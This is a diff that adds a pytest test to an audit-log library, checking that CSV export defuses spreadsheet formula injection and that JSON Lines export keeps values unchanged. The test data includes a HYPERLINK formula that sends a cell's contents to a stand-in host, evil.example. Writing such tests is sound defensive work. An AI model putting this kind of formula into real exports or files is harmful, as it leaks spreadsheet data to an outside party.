@@ -279,3 +279,34 @@ def test_a_record_that_does_not_continue_the_head_is_refused_by_the_database(
         db.execute("INSERT INTO audit VALUES (?,?,?,?,?,?,?,?,?,?,?,?)", forged)
     db.close()
     assert verify(log.path).ok
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path, start: str) -> None:
+    """Formula injection: each cell that starts like a formula gets a leading quote;
+    JSON Lines keeps the exact value."""
+    log = AuditLog(tmp_path / "audit.db", clock=Clock())
+    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
+    log.append(
+        AuditEntry(
+            user=payload,
+            source_ip=payload,
+            object=payload,
+            operation=payload,
+            result=payload,
+            reason=payload,
+            params={"note": "ok"},
+            correlation_id=payload,
+        )
+    )
+    log.append(entry(2))  # ordinary values stay as they are
+    buf = io.StringIO()
+    export(log.path, out=buf, fmt="csv")
+    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
+    for name in ("user", "source_ip", "object", "operation", "result", "reason", "correlation_id"):
+        assert rows[0][name] == "'" + payload, name
+    assert rows[1]["user"] == "alice" and rows[1]["reason"] == "200"
+    assert json.loads(rows[1]["params"]) == {"i": 2, "note": 'x,"y"\n'}
+    buf = io.StringIO()
+    export(log.path, out=buf, fmt="jsonl")
+    assert json.loads(buf.getvalue().splitlines()[0])["user"] == payload
